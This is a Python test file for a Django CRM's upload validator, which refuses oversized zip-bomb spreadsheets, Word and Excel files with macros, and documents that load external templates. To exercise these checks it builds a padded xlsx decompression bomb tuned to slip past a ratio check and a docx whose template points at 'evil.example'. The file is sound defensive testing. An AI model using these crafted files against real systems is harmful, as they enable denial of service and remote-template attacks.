"""Office files (.xlsx/.docx) checked before anything parses them (issue 13 §5 and §7):
the unpacked size of each part and of the whole is bounded, macros and external templates are
refused; the same check (crm.uploads.validate_upload) guards documents, evidence and imports."""

import io
import random
import time
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from crm.uploads import ZIP_MAX_RATIO, validate_upload
from customers import imports
from customers.models import Customer, QualificationDocument
from customers.services import CustomerError

from .xlsx_files import CONTENT_TYPES, ROOT_RELS, WORKBOOK, WORKBOOK_RELS

pytestmark = pytest.mark.django_db

SHEET = (
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    'main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'
)


def padded_shared_strings_workbook(unpacked_mb: int = 90) -> bytes:
    """An xlsx of about a megabyte whose sharedStrings unpack to `unpacked_mb` MB of text, random
    letters sprinkled in so the compression ratio stays under the old ratio check (the attack)."""
    rng = random.Random(13)
    size = unpacked_mb * 1024 * 1024
    text = bytearray(b"x" * size)
    for pos in rng.sample(range(size), size // 300):
        text[pos] = rng.randrange(97, 123)
    step = 4096
    strings = b"".join(b"<si><t>" + bytes(text[i : i + step]) + b"</t></si>" for i in range(0, size, step))
    shared = (
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
        b'main">' + strings + b"</sst>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("_rels/.rels", ROOT_RELS)
        zf.writestr("xl/workbook.xml", WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        zf.writestr("xl/worksheets/sheet1.xml", SHEET)
        zf.writestr("xl/sharedStrings.xml", shared)
    return out.getvalue()


@pytest.fixture(scope="module")
def padded_workbook():
    return padded_shared_strings_workbook()


def test_the_padded_workbook_is_what_the_attack_used(padded_workbook):
    with zipfile.ZipFile(io.BytesIO(padded_workbook)) as zf:
        info = zf.getinfo("xl/sharedStrings.xml")
    assert info.file_size > 85 * 1024 * 1024
    assert len(padded_workbook) < 2 * 1024 * 1024
    assert info.file_size / info.compress_size < ZIP_MAX_RATIO  # the ratio check alone let it through


def test_a_workbook_unpacking_to_90_mb_is_refused_by_the_import_in_under_2_seconds(
    padded_workbook, assistant
):
    started = time.monotonic()
    with pytest.raises(CustomerError) as exc:
        imports.import_stage(
            actor=assistant, kind="customers", file=SimpleUploadedFile("客户.xlsx", padded_workbook)
        )
    assert time.monotonic() - started < 2
    assert "abnormal size" in str(exc.value) or "异常" in str(exc.value)


def test_it_is_refused_as_a_document_with_a_chinese_message(
    padded_workbook, customer, salesperson, client, settings
):
    client.force_login(salesperson)
    started = time.monotonic()
    response = client.post(
        reverse("customers:document_upload", args=[customer.pk]),
        {"doc_type": "other", "file": SimpleUploadedFile("资料.xlsx", padded_workbook)},
        HTTP_ACCEPT_LANGUAGE="zh-hans",
    )
    assert time.monotonic() - started < 2
    assert "展开后大小异常" in response.content.decode()
    assert not QualificationDocument.objects.exists()


def test_the_limits_are_settings(settings):
    def office(size):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr("word/document.xml", b"<w/>")
            zf.writestr("word/a.xml", bytes(random.Random(1).randbytes(size)))
        return out.getvalue()

    settings.OFFICE_MAX_PART_BYTES = 100_000
    validate_upload(SimpleUploadedFile("a.docx", office(90_000)))
    with pytest.raises(ValidationError):
        validate_upload(SimpleUploadedFile("a.docx", office(110_000)))
    settings.OFFICE_MAX_PART_BYTES, settings.OFFICE_MAX_UNPACKED_BYTES = 10**6, 50_000
    with pytest.raises(ValidationError):
        validate_upload(SimpleUploadedFile("a.docx", office(60_000)))


DOC_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    '2006/relationships">{}</Relationships>'
)
TEMPLATE_REL = (
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
)
LINK_REL = (
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'hyperlink" Target="https://www.example.com/" TargetMode="External"/>'
)


def _docx(parts: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", b"<Types/>")
        zf.writestr("word/document.xml", b"<w:document/>")
        for name, data in parts.items():
            zf.writestr(name, data)
    return out.getvalue()


OFFICE_CASES = {
    "docx with macros": ("合同.docx", _docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "宏"),
    "xlsx with macros": (
        "报表.xlsx",
        _docx({"xl/workbook.xml": b"<w/>", "xl/vbaProject.bin": b"\xd0\xcf"}),
        "宏",
    ),
    "external template": (
        "函件.docx",
        _docx({"word/_rels/settings.xml.rels": DOC_RELS.format(TEMPLATE_REL)}),
        "外部",
    ),
}


@pytest.mark.parametrize("case", OFFICE_CASES)
def test_macros_and_external_templates_are_refused_as_documents(case, customer, salesperson, client):
    name, content, words = OFFICE_CASES[case]
    client.force_login(salesperson)
    response = client.post(
        reverse("customers:document_upload", args=[customer.pk]),
        {"doc_type": "other", "file": SimpleUploadedFile(name, content)},
        HTTP_ACCEPT_LANGUAGE="zh-hans",
    )
    assert words in response.content.decode()
    assert not QualificationDocument.objects.exists()


@pytest.mark.parametrize("case", OFFICE_CASES)
def test_macros_and_external_templates_are_refused_as_blacklist_evidence(case, customer, manager):
    from blacklist.services import BlacklistError, blacklist_entry_report

    name, content, _words = OFFICE_CASES[case]
    with pytest.raises((BlacklistError, ValidationError)):
        blacklist_entry_report(
            actor=manager,
            customer_id=customer.pk,
            reason_category="payment",
            reason="拖欠",
            loss_amount=1,
            evidence=[SimpleUploadedFile(name, content)],
        )
    assert not Customer.objects.get(pk=customer.pk).blacklist_entries.exists()


def test_a_document_with_a_hyperlink_is_accepted():
    content = _docx({"word/_rels/document.xml.rels": DOC_RELS.format(LINK_REL)})
    assert validate_upload(SimpleUploadedFile("说明.docx", content)).ext == "docx"
